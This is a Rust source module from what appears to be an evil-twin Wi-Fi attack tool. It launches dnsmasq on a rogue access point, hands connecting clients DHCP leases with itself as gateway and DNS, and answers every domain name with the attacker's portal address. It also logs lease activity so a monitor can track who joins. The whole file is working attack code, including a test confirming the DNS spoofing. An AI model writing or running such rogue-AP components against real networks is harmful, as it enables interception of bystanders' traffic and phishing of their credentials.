//! DHCP/DNS daemon wrapper.
//!
//! Runs dnsmasq on the rogue AP interface, handing out leases and spoofing
//! every DNS name to the portal gateway. Lease activity lands in a log file
//! the client monitor tails for DHCPACK lines.

use std::net::Ipv4Addr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::cleanup::Teardown;
use crate::error::{AttackError, Result};
use crate::process::ChildProcess;

pub struct DnsmasqDaemon {
    interface: String,
    gateway_ip: Ipv4Addr,
    dhcp_range_start: Ipv4Addr,
    dhcp_range_end: Ipv4Addr,
    conf_dir: PathBuf,
    config_path: PathBuf,
    lease_path: PathBuf,
    log_path: PathBuf,
    process: Option<ChildProcess>,
}

impl DnsmasqDaemon {
    pub fn new(
        interface: &str,
        gateway_ip: Ipv4Addr,
        dhcp_range_start: Ipv4Addr,
        dhcp_range_end: Ipv4Addr,
        conf_dir: impl Into<PathBuf>,
    ) -> Self {
        let conf_dir = conf_dir.into();
        Self {
            interface: interface.to_string(),
            gateway_ip,
            dhcp_range_start,
            dhcp_range_end,
            config_path: conf_dir.join("dnsmasq_twintrap.conf"),
            lease_path: conf_dir.join("dnsmasq.leases"),
            log_path: conf_dir.join("dnsmasq.log"),
            conf_dir,
            process: None,
        }
    }

    pub fn log_path(&self) -> &Path {
        &self.log_path
    }

    pub fn config_path(&self) -> &Path {
        &self.config_path
    }

    pub fn lease_path(&self) -> &Path {
        &self.lease_path
    }

    fn generate_config(&self) -> String {
        format!(
            "interface={iface}\n\
             bind-interfaces\n\
             listen-address={gw}\n\
             no-resolv\n\
             no-hosts\n\
             no-poll\n\
             dhcp-range={start},{end},12h\n\
             dhcp-option=1,255.255.255.0\n\
             dhcp-option=3,{gw}\n\
             dhcp-option=6,{gw}\n\
             dhcp-authoritative\n\
             address=/#/{gw}\n\
             dhcp-leasefile={leases}\n\
             log-queries\n\
             log-dhcp\n\
             conf-file=\n\
             bogus-priv\n\
             domain-needed\n",
            iface = self.interface,
            gw = self.gateway_ip,
            start = self.dhcp_range_start,
            end = self.dhcp_range_end,
            leases = self.lease_path.display(),
        )
    }

    pub fn start(&mut self) -> Result<()> {
        if self.process.is_some() {
            tracing::warn!("dnsmasq already running");
            return Ok(());
        }

        std::fs::create_dir_all(&self.conf_dir)?;
        std::fs::write(&self.config_path, self.generate_config())?;
        std::fs::set_permissions(&self.config_path, std::fs::Permissions::from_mode(0o600))?;
        std::fs::write(&self.lease_path, "")?;

        let conf_arg = format!("--conf-file={}", self.config_path.display());
        let mut process = ChildProcess::spawn_to_log(
            "dnsmasq",
            "dnsmasq",
            &[&conf_arg, "--no-daemon"],
            &self.log_path,
        )?;

        std::thread::sleep(Duration::from_secs(1));

        if let Some(status) = process.poll() {
            let tail = std::fs::read_to_string(&self.log_path).unwrap_or_default();
            let last = tail.lines().rev().take(5).collect::<Vec<_>>().join(" | ");
            return Err(AttackError::setup(
                "dnsmasq",
                format!("exited early ({status}): {last}"),
            ));
        }

        tracing::info!(
            interface = %self.interface,
            range_start = %self.dhcp_range_start,
            range_end = %self.dhcp_range_end,
            pid = process.pid(),
            "DHCP/DNS daemon running"
        );
        self.process = Some(process);
        Ok(())
    }

    pub fn is_running(&mut self) -> bool {
        match self.process.as_mut() {
            Some(process) => process.poll().is_none(),
            None => false,
        }
    }
}

impl Teardown for DnsmasqDaemon {
    fn stop(&mut self) -> Result<()> {
        if let Some(mut process) = self.process.take() {
            process.stop_with_grace(Duration::from_secs(1))?;
            tracing::info!("dnsmasq stopped");
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_config_spoofs_all_dns_to_gateway() {
        let daemon = DnsmasqDaemon::new(
            "wlan0",
            Ipv4Addr::new(192, 168, 100, 1),
            Ipv4Addr::new(192, 168, 100, 10),
            Ipv4Addr::new(192, 168, 100, 100),
            "/tmp/twintrap-test",
        );
        let config = daemon.generate_config();
        assert!(config.contains("interface=wlan0"));
        assert!(config.contains("dhcp-range=192.168.100.10,192.168.100.100,12h"));
        assert!(config.contains("address=/#/192.168.100.1"));
        assert!(config.contains("dhcp-option=3,192.168.100.1"));
        assert!(config.contains("log-dhcp"), "monitor needs DHCPACK lines logged");
        assert!(config.contains("no-resolv"));
    }
}
